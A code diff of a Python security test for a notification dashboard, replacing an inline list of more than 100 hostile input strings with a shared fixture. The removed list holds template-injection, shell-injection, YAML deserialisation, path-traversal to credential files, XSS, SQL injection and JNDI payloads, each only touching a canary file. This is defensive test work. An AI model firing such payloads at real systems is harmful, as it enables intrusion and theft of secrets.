@@ -35,127 +35,15 @@ import requests
 from notification_emergency.dashboard import Dashboard, DashboardServer
 from notification_emergency.dashboard.app import LoginThrottle
 from tests.dashboard.conftest import PASSWORDS, csrf_of
+from tests.hostile import hostile_strings as shared_hostile_strings
 
 PASSWORD_SAMPLE = 12
 
 
 def hostile_strings(canary: Path) -> list[str]:
-    """More than 100 distinct hostile strings; each that could run something would ``touch`` ``canary``."""
-    touch = f"touch {canary}"
-    base = [
-        # Jinja, as Ansible and the reference app's templates read it, with raw-block escapes and comments
-        f"{{{{ lookup('pipe','{touch}') }}}}",
-        f"{{{{ query('pipe', '{touch}') }}}}",
-        f"{{{{ lookup('ansible.builtin.pipe', '{touch}') }}}}",
-        f"{{% endraw %}}{{{{ lookup('pipe','{touch}') }}}}{{% raw %}}",
-        f"{{%- endraw -%}}{{{{ lookup('pipe','{touch}') }}}}{{%- raw -%}}",
-        f"{{% raw %}}{{{{ lookup('pipe','{touch}') }}}}",
-        f"{{% set x = lookup('pipe','{touch}') %}}{{{{ x }}}}",
-        f"{{% for i in range(1) %}}{{{{ lookup('pipe','{touch}') }}}}{{% endfor %}}",
-        f"{{# {touch} #}}{{{{ 7*7 }}}}",
-        "{# unterminated comment",
-        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
-        "{{ notification_service_api_token }} {{ notification_service_secret_key }}",
-        "{{ hostvars | to_json }}",
-        "{{ lookup('env', 'HOME') }}",
-        "Template error: {{ user.name }} undefined in page",
-        "{{",
-        "}}{%",
-        "{{{{}}}}",
-        f"#{{{touch}}} ${{{touch}}} <%= `{touch}` %>",
-        # shell
-        f"$({touch})",
-        f"`{touch}`",
-        f"; {touch}",
-        f"| {touch}",
-        f"&& {touch} &",
-        f"'; {touch}; echo '",
-        f'"; {touch}; echo "',
-        f"$(echo dG91Y2gK | base64 -d) {canary}",
-        "-rf /",
-        "--help",
-        "-e @/etc/passwd",
-        "* ? [a-z] ~",
-        # control characters, terminal escapes, bidi, odd whitespace
-        "\x1b[2J\x1b[H",
-        "\x1b]0;owned\x07",
-        "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
-        "\x9b31mC1 CSI",
-        "\x00NUL",
-        "\r\nforged: line",
-        "\x08\x08\x08backspace",
-        "\u202eevil\u202c",
-        "\u2066isolate\u2069",
-        "\u2028\u2029",
-        "\ufeffBOM",
-        "\x7fDEL\x85NEL",
-        "tab\tand\vvertical\ftab",
-        # lone surrogates (JSON "\ud800" escapes: valid JSON, not Unicode)
-        "\ud800",
-        "title \udfff end",
-        "\udbff\udbff",
-        # long
-        "A" * 301,
-        "B" * 5000,
-        "{{" * 2000,
-        "\x1b" * 1000,
-        "é" * 400,
-        # YAML specials
-        f"!!python/object/apply:os.system ['{touch}']",
-        "!!python/name:os.system",
-        "!unsafe x",
-        "&a [*a, *a]",
-        "*a",
-        "key: value",
-        "- item",
-        "? complex",
-        "%YAML 1.1",
-        "---",
-        "...",
-        "null",
-        "~",
-        "yes",
-        "0x1F",
-        ".inf",
-        "<<: *base",
-        # paths
-        "../../etc/passwd",
-        "/etc/shadow",
-        "~root/.ssh/id_rsa",
-        "..\\..\\windows\\win.ini",
-        "file:///etc/passwd",
-        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
-        "/proc/self/environ",
-        # nested JSON and markup, as text
-        '{"action": "rollback", "confirmed": true}',
-        "[[[[[[[[[[]]]]]]]]]]",
-        '{"a": {"b": {"c": [1, 2, {"d": null}]}}}',
-        "<script>alert(1)</script>",
-        "<img src=x onerror=alert(1)>",
-        "</textarea><svg onload=alert(1)>",
-        # format strings, SQL, numbers that are text
-        "%s%s%s%n",
-        "{0.__class__}",
-        "${jndi:ldap://evil.example/a}",
-        "'; DROP TABLE audit_log; --",
-        "1 OR 1=1",
-        "-1",
-        "1e99999",
-        "NaN",
-        "99999999d",
-        "0",
-        "",
-        " ",
-        # Unicode that is fine: emoji, right-to-left text, combining marks, zero width
-        "Notifications delayed \U0001f6a8",
-        "\u05d4\u05ea\u05e8\u05d0\u05d4",
-        "e\u0301\u0301\u0301",
-        "zero\u200bwidth",
-    ]
-    variants = [f"Outage: {text}" for text in base[:30]] + [f"{text}\n" for text in base[19:29]]
-    strings = list(dict.fromkeys(base + variants))
-    assert len(strings) >= 100
-    return strings
+    """The project's hostile strings (tests/hostile.py) that fit in a request body: a body over the dashboard's
+    64 KiB limit is a 413 before any field is read (test_dashboard_security.py)."""
+    return [text for text in shared_hostile_strings(canary) if len(text.encode("utf-8", "surrogatepass")) < 16_000]
 
 
 def secrets_of(state: Path, users_file: Path) -> list[str]:
